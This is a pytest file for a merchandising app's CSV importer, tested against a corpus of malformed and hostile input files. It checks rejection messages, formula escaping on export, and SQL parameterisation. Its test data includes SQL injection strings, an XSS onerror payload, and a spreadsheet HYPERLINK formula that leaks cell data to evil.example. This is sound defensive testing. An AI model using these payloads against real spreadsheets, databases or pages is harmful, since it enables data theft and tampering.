"""The bad-input corpus (tests/data/bad): every file ends in a clear message, nothing good is lost.

A file either fails as a whole — ``ImportFailed`` naming the file, the line and
the problem, the workspace exactly as before — or imports with its good rows
while each bad row is recorded in ``rejected_rows`` with its line and a reason.
The same holds through ``merch-app import`` (exit status 1 / 0) and through the
Data screen's import slot (see :func:`test_data_screen_reports_every_bad_file`).
"""
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from merch_app.cli.main import cli
from merch_app.data.importer import ImportFailed, import_file
from merch_app.data.rejected import rejected_rows
from merch_app.data.workspace import open_workspace

BAD = Path(__file__).parent / "data" / "bad"
TABLES = ("items", "events", "rejected_rows", "mappings")

# file -> (line, words in the message): the whole file is refused.
FAILS = {
    "empty.csv": (1, "the file is empty"),
    "whitespace_only.csv": (1, "the file is empty"),
    "bom_only.csv": (1, "the file is empty"),
    "header_blank_cells.csv": (1, "the header row is empty"),
    "binary_png.csv": (1, "not a CSV/TSV text file: this is a PNG image"),
    "excel_saved_as.csv": (1, "Excel workbook (.xlsx); open it in your spreadsheet program, save it as CSV"),
    "gzip_of_binary.csv.gz": (1, "this is binary data"),
    "truncated.csv.gz": (273, "the compressed file is cut short or damaged"),  # 272 lines decompress whole
    "tilde_delimited.csv": (1, "no delimiter found (tried comma, tab, semicolon, pipe)"),
    "single_column.csv": (1, "no delimiter found"),
    "html_error_page.csv": (1, "this is an HTML page"),
    "json_instead.csv": (1, "this is JSON"),
    "no_header.csv": (1, "the first line looks like data, not column names"),
    "missing_required_column.csv": (1, "no column for ts in a events file"),
}

# file -> (kind, rows read, rows accepted, {reason: count}): good rows go in, bad rows are listed.
PARTIAL = {
    "absurd_event_values.csv": ("events", 5, 1, {"bad_number": 4}),
    "absurd_numbers.csv": ("transactions", 8, 1, {"bad_number": 7}),
    "bad_dates.csv": ("events", 6, 1, {"bad_date": 5}),
    "control_chars.csv": ("catalogue", 2, 0, {"control_char": 2}),
    "cr_only_newlines.csv": ("catalogue", 2, 2, {}),
    "duplicate_headers.csv": ("catalogue", 2, 2, {}),
    "epoch_dates.csv": ("events", 4, 2, {"bad_date": 2}),
    "formula_payloads.csv": ("catalogue", 4, 4, {}),
    "future_dates.csv": ("events", 4, 1, {"future_date": 3}),
    "placeholder_dates.csv": ("events", 6, 2, {"early_date": 4}),
    "header_comma_rows_semicolon.csv": ("catalogue", 3, 0, {"wrong_column_count": 3}),
    "header_only.csv": ("events", 0, 0, {}),
    "html_payload.csv": ("catalogue", 2, 2, {}),
    "ids_unicode.csv": ("events", 5, 4, {"missing_item_id": 1}),
    "mixed_encodings.csv": ("catalogue", 3, 2, {"bad_encoding": 1}),
    "not_really_gzip.csv.gz": ("catalogue", 1, 1, {}),
    "nul_bytes.csv": ("events", 4, 2, {"nul_byte": 2}),
    "quoted_newline_in_id.csv": ("events", 3, 2, {"bad_csv": 1}),
    "ragged_rows.csv": ("catalogue", 4, 2, {"wrong_column_count": 2}),
    "sql_column_names.csv": ("catalogue", 2, 2, {}),
    "sql_comment_kind.csv": ("catalogue", 1, 1, {}),
    "sql_values.csv": ("events", 2, 2, {}),
    "truncated_row.csv": ("transactions", 4, 3, {"wrong_column_count": 1}),
    "unbalanced_quote.csv": ("catalogue", 2, 1, {"bad_csv": 1}),
    "unbalanced_quote_last_column.csv": ("events", 2, 1, {"bad_csv": 1}),
    "unknown_event_types.csv": ("events", 3, 1, {"unknown_event_type": 1, "missing_event_type": 1}),
    "utf16_bom_tab.csv": ("catalogue", 2, 2, {}),
    "utf16_le_no_bom.csv": ("events", 2, 2, {}),
    "zero_and_negative.csv": ("transactions", 4, 3, {"zero_quantity": 1}),
}

# The reason text of selected rejected rows: {file: {line: reason}}.
REASONS = {
    "absurd_numbers.csv": {
        3: "bad_number: Quantity '99999999999999999999' is out of range (more than 1e+09 in size)",
        5: "bad_number: Quantity 'NaN' is not a number",
        6: "bad_number: price 'inf' is out of range (more than 1e+09 in size)",
    },
    "control_chars.csv": {2: "control_char: column 'title' holds control character '\\x1b'",
                          3: "control_char: column 'sku' holds control character '\\x07'"},
    "mixed_encodings.csv": {3: "bad_encoding: column 'title' is not valid utf-8"},
    "nul_bytes.csv": {3: "nul_byte: column 'item_id'", 4: "nul_byte: column 'user_id'"},
    "unbalanced_quote.csv": {
        3: "bad_csv: unbalanced quote: the record starting on line 3 runs to line 5 and has 2 of 4 columns"},
    "quoted_newline_in_id.csv": {3: "bad_csv: line break inside column 'item_id' (unbalanced quote?)"},
    "truncated_row.csv": {5: "wrong_column_count: expected 8, got 3"},
    "epoch_dates.csv": {4: "bad_date: '1291191960000000'", 5: "bad_date: '-62135596800'"},
    "placeholder_dates.csv": {
        3: "early_date: '1900-01-01 00:00:00' is before 1990-01-01 (a placeholder date, not an event)",
        4: "early_date: '1970-01-01' is before 1990-01-01 (a placeholder date, not an event)",
        5: "early_date: '000000000' is before 1990-01-01 (a placeholder date, not an event)",
        6: "early_date: '1989-12-31 23:59:59' is before 1990-01-01 (a placeholder date, not an event)"},
}


def test_corpus_is_complete():
    files = sorted(p.name for p in BAD.iterdir() if p.is_file())
    assert len(files) >= 30
    assert not set(FAILS) & set(PARTIAL) and set(files) == set(FAILS) | set(PARTIAL)
    assert sum(p.stat().st_size for p in BAD.iterdir()) < 64 * 1024  # small; big cases are generated


# ------------------------------------------------------------------ fixtures
@pytest.fixture(scope="module")
def base_template(tmp_path_factory) -> Path:
    """A workspace with 20 good events and 5 items (ids that no bad file uses)."""
    folder = tmp_path_factory.mktemp("base")
    src = folder / "base.csv"
    lines = ["user_id,item_id,event_type,ts"]
    lines += [f"base-u{i % 4},BASE-{i % 5},view,2011-02-{1 + i:02d} 09:00:00" for i in range(20)]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    path = folder / "template.sqlite"
    db = open_workspace(path)
    assert import_file(db, src).rows_accepted == 20
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    return path


@pytest.fixture
def base_ws(base_template, tmp_path) -> Path:
    path = tmp_path / "ws.merch.sqlite"
    shutil.copy(base_template, path)
    return path


def snapshot(db) -> dict:
    snap = {t: db.execute(f"SELECT * FROM {t} ORDER BY 1").fetchall() for t in TABLES}
    snap["fts"] = db.execute("SELECT rowid, * FROM items_fts ORDER BY rowid").fetchall()
    snap["ok_imports"] = db.execute("SELECT * FROM imports WHERE status = 'ok' ORDER BY id").fetchall()
    return snap


def base_rows(db) -> tuple:
    return (db.execute("SELECT * FROM events WHERE import_id = 1 ORDER BY id").fetchall(),
            db.execute("SELECT * FROM items WHERE item_id LIKE 'BASE-%' ORDER BY item_id").fetchall())


# ------------------------------------------------------------------- the API
@pytest.mark.parametrize("name", sorted(FAILS))
def test_refused_file_names_file_line_problem_and_changes_nothing(base_ws, name):
    line, words = FAILS[name]
    db = open_workspace(base_ws)
    before = snapshot(db)
    with pytest.raises(ImportFailed) as err:
        import_file(db, BAD / name)
    message = str(err.value)
    assert message.startswith(f"{BAD / name}: line {line}: "), message
    assert words in message
    assert snapshot(db) == before
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    db.close()


@pytest.mark.parametrize("name", sorted(PARTIAL))
def test_partly_bad_file_adds_only_good_rows(base_ws, name):
    kind, read, accepted, reasons = PARTIAL[name]
    db = open_workspace(base_ws)
    base = base_rows(db)
    events_before = db.execute("SELECT count(*) FROM events").fetchone()[0]
    result = import_file(db, BAD / name)
    assert (result.kind, result.rows_read, result.rows_accepted) == (kind, read, accepted)
    assert result.rejected_reasons == reasons and result.rows_rejected == read - accepted
    assert base_rows(db) == base  # the earlier import is untouched
    added = db.execute("SELECT count(*) FROM events").fetchone()[0] - events_before
    assert added == (accepted if kind != "catalogue" else 0) == result.events_added
    rejects = rejected_rows(db, result.import_id)
    assert len(rejects) == read - accepted
    for r in rejects:  # every reject names its file, line and problem
        assert r["file_name"] == name and r["line_no"] >= 2 and r["reason"].split(":")[0] in reasons
    got = {r["line_no"]: r["reason"] for r in rejects}
    for line_no, reason in REASONS.get(name, {}).items():
        assert got[line_no] == reason
    for code, n in reasons.items():
        assert f"{code} {n}" in result.message
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    db.close()


def test_values_of_tricky_but_good_rows(ws):
    """Ids with spaces/emoji/CJK/bidi marks, SQL text, formulas and HTML are stored verbatim (trimmed)."""
    import_file(ws, BAD / "ids_unicode.csv")
    import_file(ws, BAD / "sql_values.csv")
    import_file(ws, BAD / "formula_payloads.csv")
    import_file(ws, BAD / "html_payload.csv")
    import_file(ws, BAD / "sql_column_names.csv")
    events = set(ws.execute("SELECT user_id, item_id FROM events").fetchall())
    assert {("u 1", "A 1"), ("🙂user", "🎁-42"), ("用户七", "商品-七"), ("u\u200b9", "\u202eA9"),
            ("'; DROP TABLE events; --", "1 OR 1=1"),
            ("Robert'); DROP TABLE items;--", 'A2" OR "1"="1')} == events
    titles = dict(ws.execute("SELECT item_id, title FROM items WHERE title IS NOT NULL").fetchall())
    assert titles["=1+1"] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert titles["A1"] == "Mug" and titles["<img src=x onerror=alert(1)>"] == "Plate & <i>bowl</i>"
    attrs = json.loads(ws.execute("SELECT attrs FROM items WHERE item_id = 'A2'").fetchone()[0])
    assert attrs == {'"; DROP TABLE items; --': "1", "SELECT * FROM events": "2", "name') OR 1=1 --": "3"}
    tables = {r[0] for r in ws.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"items", "events", "imports"} <= tables


def test_mixed_encodings_keep_utf8_rows_intact(ws):
    import_file(ws, BAD / "mixed_encodings.csv")
    assert dict(ws.execute("SELECT item_id, title FROM items").fetchall()) == {
        "A1": "Café crème mug", "A3": "Bowl – grey"}


def test_duplicate_header_columns_are_numbered(ws):
    result = import_file(ws, BAD / "duplicate_headers.csv")
    assert "Repeated column names were numbered: 'title (2)'" in result.message
    rows = ws.execute("SELECT item_id, title, attrs FROM items ORDER BY item_id").fetchall()
    assert rows == [("A1", "Mug", '{"title (2)": "Red mug"}'), ("A2", "Plate", '{"title (2)": "Blue plate"}')]


def test_epoch_ms_and_utf16_values(ws):
    import_file(ws, BAD / "epoch_dates.csv")
    assert [r[0] for r in ws.execute("SELECT ts FROM events ORDER BY id")] == [
        "2010-12-01T08:26:00Z", "2010-12-01T08:26:00Z"]
    import_file(ws, BAD / "utf16_le_no_bom.csv")
    assert ws.execute("SELECT user_id, item_id, event_type FROM events WHERE ts LIKE '2011%' ORDER BY id").fetchall() == [
        ("u1", "A1", "view"), ("u2", "A2", "click")]


# ------------------------------------------------------------ generated cases
def test_ten_megabyte_single_field_is_rejected_in_one_bounded_pass(base_ws, tmp_path, monkeypatch):
    """Bounded work, not a stopwatch: the file's content is opened twice at most (sniffing sample,
    then one streaming pass) and the import holds a few copies of the 10 MB field at most
    (measured 94 MiB traced peak).  The speed is measured by benchmarks/bench_limits.py."""
    import tracemalloc

    from merch_app.data import csv_source

    field = 10 * 1024 * 1024
    f = tmp_path / "huge_field.csv"
    with open(f, "w", encoding="utf-8") as out:
        out.write("sku,title,description\nA1,Mug,short\nA2,Plate,")
        out.write("x" * field)
        out.write("\nA3,Bowl,fine\n")
    db = open_workspace(base_ws)
    opens = []
    real_open_bytes = csv_source.open_bytes
    monkeypatch.setattr(csv_source, "open_bytes", lambda path: opens.append(path) or real_open_bytes(path))
    tracemalloc.start()
    try:
        result = import_file(db, f)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert 1 <= len(opens) <= 2, opens  # 0 would mean the reader was not watched
    assert peak < 16 * field, f"{peak / 2**20:.0f} MiB traced for a {field / 2**20:.0f} MiB field"
    assert (result.rows_read, result.rows_accepted, result.rejected_reasons) == (3, 2, {"field_too_long": 1})
    reject = rejected_rows(db, result.import_id)[0]
    assert reject["line_no"] == 3
    assert reject["reason"] == "field_too_long: column 'description' has 10485760 bytes"
    assert len(reject["raw"]) == 1024  # not 10 MB in the workspace
    db.close()


def test_ten_megabyte_field_in_one_line_file(base_ws, tmp_path):
    f = tmp_path / "one_line.csv"
    f.write_text("sku," + "y" * (10 * 1024 * 1024) + "\n", encoding="utf-8")
    db = open_workspace(base_ws)
    before = snapshot(db)
    result = import_file(db, f)  # a header with an absurd column name, no rows: nothing happens
    assert (result.rows_read, result.rows_accepted) == (0, 0)
    assert snapshot(db)["events"] == before["events"] and snapshot(db)["items"] == before["items"]
    db.close()


def test_missing_file_and_folder(base_ws, tmp_path):
    db = open_workspace(base_ws)
    with pytest.raises(ImportFailed, match=r"nope\.csv: file not found"):
        import_file(db, tmp_path / "nope.csv")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(ImportFailed, match=r"folder\.csv: is a folder, not a file"):
        import_file(db, tmp_path / "folder.csv")
    db.close()


# ------------------------------------------------------------------- the CLI
@pytest.mark.parametrize("name", sorted(FAILS) + sorted(PARTIAL))
def test_cli_reports_every_file(base_ws, name):
    result = CliRunner().invoke(cli, ["import", str(BAD / name), "-w", str(base_ws), "--json"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    doc = json.loads(result.stdout)
    entry = doc["files"][0]
    if name in FAILS:
        line, words = FAILS[name]
        assert result.exit_code == 1
        assert entry["status"] == "failed" and f"{name}: line {line}: " in entry["message"]
        assert words in entry["message"] and words in result.stderr
        assert (doc["items"], doc["events"]) == (5, 20)
    else:
        kind, read, accepted, reasons = PARTIAL[name]
        assert result.exit_code == 0
        assert (entry["kind"], entry["rows_read"], entry["rows_accepted"]) == (kind, read, accepted)
        assert entry["rejected_reasons"] == reasons
        assert doc["events"] == 20 + (accepted if kind != "catalogue" else 0)


# --------------------------------------------------------------------- the GUI
def test_data_screen_reports_every_bad_file(qtbot, base_ws):
    """All corpus files through the Data screen's import slot in one job: a line per file, no crash."""
    pytest.importorskip("pytestqt")
    from merch_app.ui.screens.mapping_dialog import ImportRequest
    from ui_support import make_window, wait_idle

    window = make_window(qtbot, base_ws)
    screen = window.screens["Data"]
    wait_idle(qtbot, window)
    names = sorted(FAILS) + sorted(PARTIAL)
    screen.start_import([ImportRequest(BAD / n) for n in names])
    qtbot.waitUntil(lambda: len(getattr(screen, "last_results", None) or []) == len(names), timeout=120_000)
    wait_idle(qtbot, window)
    by_name = {r.file_name: r for r in screen.last_results}
    text = window.banner.label.text()
    for name in names:
        r = by_name[name]
        if name in FAILS:
            line, words = FAILS[name]
            assert r.status == "failed" and f"line {line}: " in r.message and words in r.message
        else:
            # rows the base workspace already holds are skipped, not double-counted
            assert r.status == "ok" and (r.rows_read, r.rows_accepted + r.rows_duplicate) == PARTIAL[name][1:3]
        assert name in text
    db = open_workspace(base_ws)
    accepted = sum(v[2] for v in PARTIAL.values() if v[0] != "catalogue")
    duplicate = sum(r.rows_duplicate for r in screen.last_results if r.status == "ok")
    assert db.execute("SELECT count(*) FROM events").fetchone()[0] == 20 + accepted - duplicate
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    db.close()


def test_data_screen_preview_error_names_file_and_line(qtbot, base_ws):
    """Dropping a refused file on the Data screen shows the reason from the preview step."""
    pytest.importorskip("pytestqt")
    from ui_support import make_window, wait_idle

    window = make_window(qtbot, base_ws)
    screen = window.screens["Data"]
    wait_idle(qtbot, window)
    screen.request_preview(BAD / "excel_saved_as.csv", None, lambda preview: None)
    qtbot.waitUntil(lambda: window.banner.isVisible() and "excel_saved_as.csv" in window.banner.label.text(),
                    timeout=30_000)
    assert "line 1" in window.banner.label.text() and "Excel workbook" in window.banner.label.text()


# --------------------------------------------------- hostile values in exports
def test_csv_cell_known_answers():
    from merch_app.safety import csv_cell, csv_row, html_text

    assert csv_row(["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-3.5", "+44", "1e5", "plain", None, 7,
                    -2.5, "'quoted"]) == [
        "'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "-3.5", "+44", "1e5", "plain", "", 7, -2.5,
        "'quoted"]
    assert csv_cell('=HYPERLINK("http://evil.example","click")').startswith("'=")
    assert html_text('<img src=x onerror="alert(1)">&') == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&amp;"


def test_sql_identifier_validation():
    from merch_app.safety import UnsafeIdentifier, sql_identifier

    assert sql_identifier("idx_events_user") == '"idx_events_user"'
    for bad in ("", "1abc", "a b", 'x"; DROP TABLE items; --', "items;", "é", "a" * 65, None):
        with pytest.raises(UnsafeIdentifier):
            sql_identifier(bad)


def test_rejected_rows_export_escapes_formulas(ws, tmp_path):
    import csv

    from merch_app.data.rejected import export_rejected_csv

    f = tmp_path / "evil.csv"
    f.write_text('user_id,item_id,event_type,ts\n"=HYPERLINK(""http://evil.example"",""x"")",A1,view,never\n'
                 "@SUM(1+1),A2,teleport,2011-01-01 10:00:00\nu1,A3,view,2011-01-01 10:00:00\n", encoding="utf-8")
    import_file(ws, f)
    out = tmp_path / "rejected.csv"
    assert export_rejected_csv(ws, None, out) == 2
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert [r[3][:2] for r in rows[1:]] == ['"=', "'@"]  # a raw line starting with a quote is text already
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (
                cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())


def test_query_screen_csv_export_escapes_formula_titles(qtbot, tmp_path, ws_path):
    pytest.importorskip("pytestqt")
    import csv

    from ui_support import make_window, wait_idle

    import_file(ws_path, BAD / "formula_payloads.csv")
    import_file(ws_path, BAD / "html_payload.csv")
    window = make_window(qtbot, ws_path)
    screen = window.screens["Query"]
    screen.encoder_spec = "hashing:64"
    window.show_screen("Query")
    wait_idle(qtbot, window)
    shown = screen.results_shown
    qtbot.keyClicks(screen.controls.query_box, "sum cmd hyperlink")
    qtbot.waitUntil(lambda: screen.results_shown > shown and screen.result.request.query == "sum cmd hyperlink",
                    timeout=30_000)
    wait_idle(qtbot, window)
    out = screen.export_results(tmp_path / "results.csv")
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {"'=1+1", "'@A4"} & {r["item_id"] for r in rows}
    for r in rows:
        for key in ("item_id", "title", "category"):
            assert not (r[key] or "").startswith(("=", "+", "@", "\t", "\r")), r
        float(r["score"])  # numbers stay numbers


# ------------------------------------------------------------- the SQL audit
# Every f-string that builds SQL interpolates only these audited expressions; values are "?" parameters.
AUDITED_SQL_INTERPOLATIONS = {
    "verb": "INSERT or INSERT OR REPLACE (Workspace.insert_rows)",
    "quoted_table": "merch_app.safety.sql_identifier",
    "', '.join(quoted)": "names from merch_app.safety.sql_identifier",
    "' AND '.join(where)": "conditions are fixed SQL text; values are ? parameters",
    "', '.join('?' * len(cols))": "placeholders",
    "', '.join(FIELDS)": "constant column names",
    "', '.join(cols)": "constant column lists",
    "','.join('?' * len(chunk))": "placeholders",
    "_SAVEPOINT": "constant savepoint name",
    "_COLUMNS": "constant column list of the rules table (ranking.rules)",
    "base": "constant SELECT",
    "cond": "'' or 'AND ts < ?' (finetune_pairs, data.search_log; the time is a ? parameter)",
    "expr": "bucket_sql(): one of three fixed expressions",
    "how": "constant expression",
    "int(self._cache_size)": "an int",
    "int(wait_ms)": "an int",
    "int(timeout)": "an int (the busy timeout read back from PRAGMA busy_timeout)",
    "marks": "','.join('?' * n) placeholders",
    "placeholders(len(chunk))": "placeholders",
    "self._bm25": "bm25() with float weights formatted by repr(float)",
    "sql": "a constant query",
    "sql_identifier(name)": "validated identifier (merch_app.safety)",
    "t": "loop over the constant table names ('items', 'events')",
    "version + 1": "an int",
    "where": "fixed SQL text from the calling function; values are ? parameters",
    "weights_sql": "term_tops: checked to be comma-separated numbers before use",
}
_SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|PRAGMA|CREATE|DROP|WHERE|SAVEPOINT|RELEASE|ROLLBACK|"
                        r"VALUES|ORDER BY|GROUP BY|MATCH|JOIN)\b")


def test_sql_is_parameterised_or_uses_audited_fragments():
    import ast

    root = Path(__file__).resolve().parents[1] / "merch_app"
    unaudited = []
    for path in sorted(root.rglob("*.py")):
        src = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(src)):
            if not isinstance(node, ast.JoinedStr):
                continue
            literal = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
            if not _SQL_WORDS.search(literal):
                continue
            for part in node.values:
                if isinstance(part, ast.FormattedValue):
                    expr = ast.get_source_segment(src, part.value)
                    if expr not in AUDITED_SQL_INTERPOLATIONS:
                        unaudited.append(f"{path.relative_to(root.parent)}:{node.lineno}: {{{expr}}}")
    assert not unaudited, ("SQL built with unaudited interpolations (pass values as ? parameters, names through "
                           "merch_app.safety.sql_identifier, then add the expression here):\n" + "\n".join(unaudited))


def test_hostile_ids_and_names_do_not_change_the_schema(ws):
    schema = ws.execute("SELECT type, name FROM sqlite_master ORDER BY name").fetchall()
    import_file(ws, BAD / "sql_values.csv")
    import_file(ws, BAD / "sql_column_names.csv")
    import_file(ws, BAD / "sql_comment_kind.csv")
    from merch_app.services.forget import forget_user
    from merch_app.insights.profiles import list_users

    users = {u["user_id"] for u in list_users(ws, "active")}
    assert "'; DROP TABLE events; --" in users
    forget_user(ws, "Robert'); DROP TABLE items;--", retrain=False)
    assert ws.execute("SELECT type, name FROM sqlite_master ORDER BY name").fetchall() == schema
    assert ws.execute("SELECT count(*) FROM events").fetchone()[0] == 1
